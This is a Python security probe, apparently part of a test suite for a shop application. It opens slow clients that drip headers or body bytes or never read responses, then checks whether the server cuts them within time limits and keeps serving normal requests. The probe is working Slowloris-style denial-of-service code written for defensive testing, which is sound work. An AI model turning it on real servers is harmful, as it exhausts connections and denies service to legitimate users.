"""Clients that are slow on purpose: headers, a body and an answer that take for ever (security list 68)."""

import asyncio
import select
import socket
import time
from collections.abc import Callable, Coroutine
from contextlib import ExitStack
from typing import Any, Final
from urllib.parse import urlsplit

from scenarios.probes.card import Owasp, Severity
from scenarios.probes.probe import Attack, probe

CLIENTS: Final = 8
"""Who send slowly, of each kind. What they cost the shop is not their number but that they never end."""
READERS: Final = 2
"""Who read nothing: each answer that waits for one was work, and honest customers are not to be slowed by that here."""
CUT_WITHIN_S: Final = 16.0
"""The shop waits 5 s for headers, for the body of a request that only looks, and for a reader who took a little, twice
that long at most; machines are busy."""
DRIP_S: Final = 0.5
HONEST_S: Final = 2.0
UNREAD: Final = 60
"""Answers asked for at once by a client that reads none: more than any buffer between the two holds."""
RECEIVED_BYTES: Final = 4_096
BEGUN: Final = b"GET /api/v1/products HTTP/1.1\r\nHost: localhost\r\n"
LOOK: Final = "/api/v1/products?limit=1"


@probe(
    id="slow-clients",
    title="Connections held open by clients that send and read a byte at a time",
    severity=Severity.MEDIUM,
    cwe=400,
    owasp=Owasp.RESOURCES,
    remediation="Bound how long headers, a body and the reading of an answer may take; close what takes longer.",
    services=("gateway", "auth", "catalog"),
    reaches="catalog",
)
async def slow_clients(attack: Attack) -> None:
    attack.require((await attack.ask("GET", LOOK)).status == 200, "the shop does not answer")
    kinds: dict[str, Callable[[socket.socket], Coroutine[Any, Any, None]]] = {
        "headers": lambda client: _drip(client, BEGUN, b"X-Slow: 1\r\n"),
        "a body": lambda client: _drip(client, BEGUN + b"Content-Length: 60000\r\n\r\n", b"x"),
        "an answer": _read_nothing,
    }
    with ExitStack() as opened:
        clients = {
            what: [_connected(attack, opened) for _ in range(READERS if kind is _read_nothing else CLIENTS)]
            for what, kind in kinds.items()
        }
        slow = [
            asyncio.create_task(kind(client), name=what) for what, kind in kinds.items() for client in clients[what]
        ]
        attack.requests += len(slow)
        served = await _served_meanwhile(attack, slow)
    for task in slow:
        task.cancel()
    await asyncio.gather(*slow, return_exceptions=True)
    for what in kinds:
        held = sum(task.cancelled() for task in slow if task.get_name() == what)
        if held:
            attack.gained(
                f"{held} of {len(clients[what])} who are slow with {what} were not cut within {CUT_WITHIN_S:g} s"
            )
    if not served:
        attack.gained("honest customers were not served beside slow clients")


async def _served_meanwhile(attack: Attack, slow: list[asyncio.Task[None]]) -> bool:
    """Look as an honest customer until all slow ones are cut or the time is up; whether each look was served."""
    until, served = time.monotonic() + CUT_WITHIN_S, True
    while not all(task.done() for task in slow) and time.monotonic() < until:
        reply = await attack.ask("GET", LOOK, host=2)
        served = served and reply.status == 200 and reply.seconds < HONEST_S
        await asyncio.sleep(DRIP_S)
    return served


def _connected(attack: Attack, opened: ExitStack) -> socket.socket:
    """A connection with hardly room for an answer."""
    client = opened.enter_context(socket.socket())
    client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, RECEIVED_BYTES)
    client.bind((attack.source(), 0))
    where = urlsplit(attack.site.url("gateway"))
    client.connect((where.hostname, where.port))
    client.setblocking(False)
    return client


async def _drip(client: socket.socket, begun: bytes, drop: bytes) -> None:
    """Send a beginning and then drop after drop, until the shop closes the connection."""
    loop = asyncio.get_running_loop()
    try:
        await loop.sock_sendall(client, begun)
        while not _closed(client):
            await loop.sock_sendall(client, drop)
            await asyncio.sleep(DRIP_S)
    except OSError:
        return  # the shop has closed it


async def _read_nothing(client: socket.socket) -> None:
    """Ask for much and read none of it, until the shop closes the connection."""
    document = b"GET /openapi/openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n"
    await asyncio.get_running_loop().sock_sendall(client, document * UNREAD)
    while not _closed(client, reading=False):
        await asyncio.sleep(DRIP_S)


def _closed(client: socket.socket, *, reading: bool = True) -> bool:
    """Whether the other side has ended it, without taking anything that was sent by it but a refusal."""
    poll = select.poll()
    poll.register(client, select.POLLRDHUP)
    if poll.poll(0):
        return True
    try:
        return reading and client.recv(RECEIVED_BYTES) == b""
    except BlockingIOError:
        return False


PROBES: Final = (slow_clients,)
